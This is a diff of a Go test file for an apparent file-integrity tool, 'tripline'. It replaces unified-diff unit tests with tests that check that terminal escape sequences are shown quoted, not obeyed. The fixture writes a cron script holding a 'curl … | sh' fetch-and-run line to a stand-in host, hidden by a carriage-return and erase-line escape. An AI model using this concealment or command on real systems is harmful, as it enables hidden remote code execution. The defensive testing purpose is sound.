@@ -1,224 +1,130 @@
 package main
 
 import (
-	"reflect"
+	"bytes"
+	"encoding/json"
+	"errors"
+	"io"
+	"os"
+	"strconv"
 	"strings"
+	"syscall"
 	"testing"
 
-	"github.com/tripline/tripline/baseline"
-	"github.com/tripline/tripline/store"
+	"golang.org/x/sys/unix"
+
+	"github.com/tripline/tripline/internal/testenv"
 )
 
-// The expected texts are what GNU diffutils 3.8 `diff -u a b` prints for the same inputs, without
-// its two file header lines (unifiedDiff prints none: contentDiffs writes its own).
-func checkUnified(t *testing.T, name, a, b, want string) {
+// hiddenLine is issue 13's attack: on a terminal, "\r\x1b[K" returns the cursor to the start of
+// the line and erases it, so the "curl | sh" before it is never seen and only "echo backup done"
+// is.
+const (
+	cleanScript  = "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n"
+	hiddenScript = cleanScript + "curl -s http://example.invalid/x | sh\r\x1b[Kecho backup done\n"
+	// What tripline prints for the hidden line: Go-quoted, the escape visible.
+	shownLine = `"curl -s http://example.invalid/x | sh\r\x1b[Kecho backup done"`
+)
+
+// hiddenLineFixture records a baseline of a clean cron script, rewrites it to hide a line, and
+// scans again, so the history holds both versions.
+func hiddenLineFixture(t *testing.T) (*inproc, string) {
 	t.Helper()
-	got := unifiedDiff([]byte(a), []byte(b))
-	if got == want {
-		return
+	h := newInproc(t)
+	const p = "/etc/cron.daily/backup"
+	h.fx.write(t, p[1:], cleanScript, 0o644)
+	if r := h.run("scan"); r.code != 0 {
+		t.Fatalf("first scan: exit %d\n%s%s", r.code, r.stdout, r.stderr)
 	}
-	gl, wl := strings.Split(got, "\n"), strings.Split(want, "\n")
-	for i := 0; i < max(len(gl), len(wl)); i++ {
-		var g, w string
-		if i < len(gl) {
-			g = gl[i]
-		}
-		if i < len(wl) {
-			w = wl[i]
-		}
-		if g != w {
-			t.Errorf("%s: line %d is %q, want %q", name, i+1, g, w)
-			break
-		}
+	h.fx.write(t, p[1:], hiddenScript, 0o755)
+	if r := h.run("scan"); r.code != exitChanged {
+		t.Fatalf("second scan: exit %d, want %d\n%s%s", r.code, exitChanged, r.stdout, r.stderr)
 	}
-	t.Errorf("%s: unifiedDiff =\n%s\nwant (GNU diff -u):\n%s", name, got, want)
+	return h, p
 }
 
-func TestUnifiedDiffGNU(t *testing.T) {
-	cases := []struct{ name, a, b, want string }{
-		{"line added at the end", "l1\nl2\nl3\nl4\nl5\n", "l1\nl2\nl3\nl4\nl5\nl6\n",
-			"@@ -3,3 +3,4 @@\n l3\n l4\n l5\n+l6"},
-		{"deletion at the start", "a\nb\nc\nd\ne\nf\n", "b\nc\nd\ne\nf\n",
-			"@@ -1,4 +1,3 @@\n-a\n b\n c\n d"},
-		{"lines inserted in the middle", "a\nb\nc\nd\ne\nf\ng\nh\n", "a\nb\nc\nd\nnew1\nnew2\ne\nf\ng\nh\n",
-			"@@ -2,6 +2,8 @@\n b\n c\n d\n+new1\n+new2\n e\n f\n g"},
-		{"two hunks", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n",
-			"one\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\nsixteen\n",
-			"@@ -1,4 +1,4 @@\n-1\n+one\n 2\n 3\n 4\n@@ -13,4 +13,4 @@\n 13\n 14\n 15\n-16\n+sixteen"},
-		{"six lines between changes: one hunk", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n",
-			"1\n2\nTHREE\n4\n5\n6\n7\n8\n9\nTEN\n11\n12\n",
-			"@@ -1,12 +1,12 @@\n 1\n 2\n-3\n+THREE\n 4\n 5\n 6\n 7\n 8\n 9\n-10\n+TEN\n 11\n 12"},
-		{"seven lines between changes: two hunks", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n",
-			"1\n2\nTHREE\n4\n5\n6\n7\n8\n9\n10\nELEVEN\n12\n13\n",
-			"@@ -1,6 +1,6 @@\n 1\n 2\n-3\n+THREE\n 4\n 5\n 6\n@@ -8,6 +8,6 @@\n 8\n 9\n 10\n-11\n+ELEVEN\n 12\n 13"},
-		{"everything deleted", "a\nb\n", "", "@@ -1,2 +0,0 @@\n-a\n-b"},
-		{"everything added", "", "a\nb\n", "@@ -0,0 +1,2 @@\n+a\n+b"},
-		{"a blank line deleted", "a\n\n\nb\n", "a\n\nb\n", "@@ -1,4 +1,3 @@\n a\n \n-\n b"},
-		{"CRLF to LF", "a\r\nb\r\n", "a\nb\n", "@@ -1,2 +1,2 @@\n-a\r\n-b\r\n+a\n+b"},
-		// GNU adds "\ No newline at end of file" after the last line of each side; unifiedDiff
-		// compares lines and leaves the marker out (documented: the final newline is ignored).
-		{"no final newline", "x\ny\nz", "x\ny\nw", "@@ -1,3 +1,3 @@\n x\n y\n-z\n+w"},
-		{"one line changed in the middle", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n", "1\n2\n3\n4\nFIVE\n6\n7\n8\n9\n10\n",
-			"@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+FIVE\n 6\n 7\n 8"},
-		{"a block replaced", "a\nb\nc\nd\ne\n", "a\nX\nY\nZ\ne\n", "@@ -1,5 +1,5 @@\n a\n-b\n-c\n-d\n+X\n+Y\n+Z\n e"},
-		{"one-line files", "a\n", "b\n", "@@ -1 +1 @@\n-a\n+b"},
-		{"last line removed", "a\nb\n", "a\n", "@@ -1,2 +1 @@\n a\n-b"},
-	}
-	for _, c := range cases {
-		if got := unifiedDiff([]byte(c.a), []byte(c.b)); got != c.want {
-			t.Errorf("%s: unifiedDiff (in GNU form) =\n%s\nwant (GNU diff -u):\n%s", c.name, got, c.want)
+// The escape sequence is shown, not obeyed, in history --diff (text and JSON), and the line it
+// hid is there.
+func TestHistoryDiffShowsHiddenLine(t *testing.T) {
+	h, p := hiddenLineFixture(t)
+	for _, format := range []string{"text", "json"} {
+		r := h.run("history", "--diff", "--format", format, p)
+		if r.code != 0 {
+			t.Fatalf("history --diff --format %s: exit %d %s", format, r.code, r.stderr)
+		}
+		out := r.stdout
+		if format == "json" {
+			// The JSON string holds the rendered diff: what a reader of `jq -r .diffs[]` sees.
+			var v struct{ Diffs []string }
+			if err := json.Unmarshal([]byte(out), &v); err != nil || len(v.Diffs) != 1 {
+				t.Fatalf("history --diff --format json: %v, %d diffs\n%s", err, len(v.Diffs), out)
+			}
+			out = v.Diffs[0]
+		}
+		t.Logf("history --diff --format %s, as printed:\n%s", format, out)
+		if strings.ContainsAny(out, "\r\x1b") {
+			t.Errorf("--format %s: the diff carries a raw carriage return or escape: %q", format, out)
+		}
+		if !strings.Contains(out, "\n+"+shownLine+"\n") && !strings.HasSuffix(out, "\n+"+shownLine) {
+			t.Errorf("--format %s: the diff does not show the added line as %s:\n%s", format, "+"+shownLine, out)
 		}
 	}
 }
 
-// Regression test (found in review, fixed): within a changed block unifiedDiff prints the added lines before the removed ones
-// (cmd/tripline/versions.go, unifiedDiff: the walk over the LCS table takes a '+' whenever
-// lcs[i][j+1] >= lcs[i+1][j], i.e. on ties too). GNU diff, git and patch readers expect the old
-// lines first: for "1..10" with line 5 changed to FIVE, diff -u prints "-5" then "+FIVE";
-// unifiedDiff prints "+FIVE" then "-5".
-func TestUnifiedDiffChangeOrder(t *testing.T) {
-	checkUnified(t, "one line changed in the middle", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n", "1\n2\n3\n4\nFIVE\n6\n7\n8\n9\n10\n",
-		"@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+FIVE\n 6\n 7\n 8")
-	checkUnified(t, "a block replaced", "a\nb\nc\nd\ne\n", "a\nX\nY\nZ\ne\n",
-		"@@ -1,5 +1,5 @@\n a\n-b\n-c\n-d\n+X\n+Y\n+Z\n e")
-}
-
-// Regression test (found in review, fixed): a range of one line is printed "N,1" where GNU diff -u prints just "N"
-// (cmd/tripline/versions.go, unifiedDiff, the "@@ -%d,%d +%d,%d @@" header). Both forms are
-// accepted by patch; the output is not what diff -u prints.
-func TestUnifiedDiffOneLineRange(t *testing.T) {
-	checkUnified(t, "added to empty", "", "x\n", "@@ -0,0 +1 @@\n+x")
-	checkUnified(t, "only line removed", "x\n", "", "@@ -1 +0,0 @@\n-x")
-	checkUnified(t, "last line removed", "a\nb\n", "a\n", "@@ -1,2 +1 @@\n a\n-b")
-}
-
-// Regression test (found in review, fixed): splitLines treats a file holding one empty line ("\n") as a file with no lines
-// (cmd/tripline/versions.go, splitLines: TrimSuffix then `s == ""` returns nil). Diffing "\n"
-// against "\nx\n" prints "@@ -0,0 +1,2 @@ / + / +x" (the blank line shown as added, wrong line
-// numbers); GNU diff -u prints "@@ -1 +1,2 @@ / (blank context) / +x". And "\n" against "" says
-// the lines are the same, though a line was removed.
-func TestUnifiedDiffSingleEmptyLine(t *testing.T) {
-	if got := splitLines([]byte("\n")); len(got) != 1 || got[0] != "" {
-		t.Errorf("splitLines(%q) = %q, want one empty line", "\n", got)
+// show is byte for byte to a pipe, and shows the escape to a terminal (a real pseudo-terminal).
+func TestShowToTerminal(t *testing.T) {
+	h, p := hiddenLineFixture(t)
+	if r := h.run("show", p+"@2"); r.code != 0 || r.stdout != hiddenScript || r.stderr != "" {
+		t.Errorf("show to a pipe: exit %d, %q, stderr %q; want the bytes as stored", r.code, r.stdout, r.stderr)
 	}
-	checkUnified(t, "blank line then x", "\n", "\nx\n", "@@ -1 +1,2 @@\n \n+x")
-	checkUnified(t, "blank line removed", "\n", "", "@@ -1 +0,0 @@\n-")
+
+	master, slave := openPTY(t)
+	got := make(chan []byte)
+	go func() {
+		b, _ := io.ReadAll(master) // ends with EIO once the slave side is closed
+		got <- b
+	}()
+	var se bytes.Buffer
+	code := run(t.Context(), []string{"tripline", "--db", h.fx.db, "--root", h.fx.root, "show", p + "@2"}, slave, &se)
+	slave.Close()
+	screen := strings.ReplaceAll(string(<-got), "\r\n", "\n") // the terminal's ONLCR
+	master.Close()
+	if code != 0 {
+		t.Fatalf("show to a terminal: exit %d %s", code, se.String())
+	}
+	t.Logf("show to a terminal:\n%s", screen)
+	if want := cleanScript + shownLine + "\n"; screen != want {
+		t.Errorf("the terminal got %q, want %q", screen, want)
+	}
+	if !strings.Contains(se.String(), "shown Go-quoted") {
+		t.Errorf("stderr %q does not say that lines were quoted", se.String())
+	}
 }
 
-func TestUnifiedDiffSame(t *testing.T) {
-	const same = "(same lines; only line endings or the final newline differ)"
-	for _, c := range [][2]string{
-		{"a\nb\n", "a\nb\n"},
-		{"", ""},
-		{"a\nb", "a\nb\n"}, // only the final newline differs
-		{"a\nb\n", "a\nb"},
-	} {
-		if got := unifiedDiff([]byte(c[0]), []byte(c[1])); got != same {
-			t.Errorf("unifiedDiff(%q, %q) = %q, want %q", c[0], c[1], got, same)
+// openPTY opens a pseudo-terminal pair; the slave side is what a program sees as its terminal.
+func openPTY(t *testing.T) (master, slave *os.File) {
+	t.Helper()
+	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
+	if err != nil {
+		testenv.SkipOrFail(t, "no pseudo-terminals here: "+err.Error())
+	}
+	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
+		m.Close()
+		t.Fatalf("unlock pty: %v", err)
+	}
+	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
+	if err != nil {
+		m.Close()
+		t.Fatalf("pty number: %v", err)
+	}
+	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|syscall.O_NOCTTY, 0)
+	if err != nil {
+		m.Close()
+		if errors.Is(err, os.ErrNotExist) {
+			testenv.SkipOrFail(t, "/dev/pts is not mounted: "+err.Error())
 		}
+		t.Fatal(err)
 	}
-}
-
-func TestUnifiedDiffTooLong(t *testing.T) {
-	long := strings.Repeat("x\n", 4001)
-	got := unifiedDiff([]byte(long), []byte("x\n"))
-	if !strings.HasPrefix(got, "(too long to diff here: 4001 and 1 lines") {
-		t.Errorf("unifiedDiff of 4001 lines = %q", got)
-	}
-	// 4000 lines a side is diffed.
-	a := strings.Repeat("x\n", 4000)
-	b := strings.Repeat("x\n", 3999) + "y\n"
-	if got := unifiedDiff([]byte(a), []byte(b)); got != "@@ -3997,4 +3997,4 @@\n x\n x\n x\n-x\n+y" {
-		t.Errorf("unifiedDiff of 4000 lines = %q", got)
-	}
-}
-
-func TestUnifiedSplitLines(t *testing.T) {
-	for in, want := range map[string][]string{
-		"":           nil,
-		"a":          {"a"},
-		"a\n":        {"a"},
-		"a\nb":       {"a", "b"},
-		"a\n\nb\n\n": {"a", "", "b", ""},
-		"a\r\n":      {"a\r"},
-	} {
-		if got := splitLines([]byte(in)); !reflect.DeepEqual(got, want) {
-			t.Errorf("splitLines(%q) = %q, want %q", in, got, want)
-		}
-	}
-}
-
-func fileEntry(sha string, size int64) *baseline.Entry {
-	return &baseline.Entry{Path: "/etc/crontab", Type: baseline.TypeFile, SHA256: sha, Size: size, HashState: baseline.HashOK}
-}
-
-func TestVersionsOf(t *testing.T) {
-	a, b, c := strings.Repeat("a", 64), strings.Repeat("b", 64), strings.Repeat("c", 64)
-	link := &baseline.Entry{Path: "/etc/crontab", Type: baseline.TypeSymlink, Target: "/tmp/x", HashState: baseline.HashNotRegular}
-	unhashed := &baseline.Entry{Path: "/etc/crontab", Type: baseline.TypeFile, Size: 1 << 30, HashState: baseline.HashTooLarge}
-	cases := []struct {
-		name string
-		rows []store.HistoryRow
-		want []contentVersion
-	}{
-		{"none", nil, nil},
-		{"baseline then a change", []store.HistoryRow{
-			{ID: 5, TimeNS: 50, Old: fileEntry(a, 1), New: fileEntry(b, 2)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1, RowID: 0, TimeNS: 0},
-			{N: 2, SHA256: b, Size: 2, RowID: 5, TimeNS: 50},
-		}},
-		{"created: no version before", []store.HistoryRow{
-			{ID: 1, TimeNS: 10, Kind: "created", New: fileEntry(a, 1)},
-			{ID: 2, TimeNS: 20, Old: fileEntry(a, 1), New: fileEntry(b, 2)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1, RowID: 1, TimeNS: 10},
-			{N: 2, SHA256: b, Size: 2, RowID: 2, TimeNS: 20},
-		}},
-		{"repeated sha collapses", []store.HistoryRow{
-			{ID: 1, TimeNS: 10, Old: fileEntry(a, 1), New: fileEntry(a, 1)}, // a mode change, say
-			{ID: 2, TimeNS: 20, Old: fileEntry(a, 1), New: fileEntry(b, 2)},
-			{ID: 3, TimeNS: 30, Old: fileEntry(b, 2), New: fileEntry(b, 2)},
-			{ID: 4, TimeNS: 40, Kind: "accepted", Old: fileEntry(a, 1), New: fileEntry(b, 2)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1},
-			{N: 2, SHA256: b, Size: 2, RowID: 2, TimeNS: 20},
-		}},
-		{"back to an earlier content is a new version", []store.HistoryRow{
-			{ID: 1, TimeNS: 10, Old: fileEntry(a, 1), New: fileEntry(b, 2)},
-			{ID: 2, TimeNS: 20, Old: fileEntry(b, 2), New: fileEntry(a, 1)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1},
-			{N: 2, SHA256: b, Size: 2, RowID: 1, TimeNS: 10},
-			{N: 3, SHA256: a, Size: 1, RowID: 2, TimeNS: 20},
-		}},
-		{"non-file entries and deletions skipped", []store.HistoryRow{
-			{ID: 1, TimeNS: 10, Old: fileEntry(a, 1), New: link},
-			{ID: 2, TimeNS: 20, Kind: "deleted", Old: link},
-			{ID: 3, TimeNS: 30, Kind: "created", New: unhashed},
-			{ID: 4, TimeNS: 40, Old: unhashed, New: fileEntry(a, 1)}, // a again, after the gaps: collapses
-			{ID: 5, TimeNS: 50, Old: fileEntry(a, 1), New: fileEntry(c, 3)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1},
-			{N: 2, SHA256: c, Size: 3, RowID: 5, TimeNS: 50},
-		}},
-		{"first row's old not a file", []store.HistoryRow{
-			{ID: 7, TimeNS: 70, Old: link, New: fileEntry(c, 3)},
-		}, []contentVersion{
-			{N: 1, SHA256: c, Size: 3, RowID: 7, TimeNS: 70},
-		}},
-		{"only the first row's old counts", []store.HistoryRow{
-			{ID: 1, TimeNS: 10, Kind: "deleted", Old: fileEntry(a, 1)},
-			{ID: 2, TimeNS: 20, Kind: "created", New: fileEntry(b, 2)},
-			{ID: 3, TimeNS: 30, Old: fileEntry(c, 3), New: fileEntry(b, 2)},
-		}, []contentVersion{
-			{N: 1, SHA256: a, Size: 1},
-			{N: 2, SHA256: b, Size: 2, RowID: 2, TimeNS: 20},
-		}},
-	}
-	for _, c := range cases {
-		if got := versionsOf(c.rows); !reflect.DeepEqual(got, c.want) {
-			t.Errorf("%s: versionsOf = %+v, want %+v", c.name, got, c.want)
-		}
-	}
+	t.Cleanup(func() { m.Close(); s.Close() })
+	return m, s
 }
